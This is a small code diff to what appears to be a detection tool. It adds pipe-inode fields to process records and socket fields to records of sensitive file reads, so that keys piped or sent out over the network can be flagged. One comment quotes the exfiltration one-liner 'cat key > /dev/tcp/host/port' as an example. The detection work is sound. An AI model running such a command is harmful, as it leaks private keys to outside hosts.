@@ -31,6 +31,11 @@ class Proc:
     cmdline: Optional[str] = None
     pgid: Optional[int] = None
     sid: Optional[int] = None
+    #: Inodes of the pipes on fd 0 and fd 1 when they are pipes (native sources read
+    #: them from /proc/PID/fd; osquery rows carry none): a reader whose stdout pipe
+    #: is a sender's stdin pipe, directly or through other members, is one pipeline.
+    stdin_pipe: Optional[int] = None
+    stdout_pipe: Optional[int] = None
 
 
 @dataclass(frozen=True)
@@ -43,6 +48,10 @@ class SensitiveRead:
     path: str
     source: str
     size: Optional[int] = None  # file size in bytes where the source knows it
+    #: (socket cookie, bytes sent so far) of sockets on the reader's fd 0/1 at the
+    #: read (native: read while fanotify held the opener), e.g. ``cat key >
+    #: /dev/tcp/host/port``; the bytes are None where the socket keeps no counters.
+    std_sockets: tuple[tuple[int, Optional[int]], ...] = ()
 
 
 @dataclass(frozen=True)
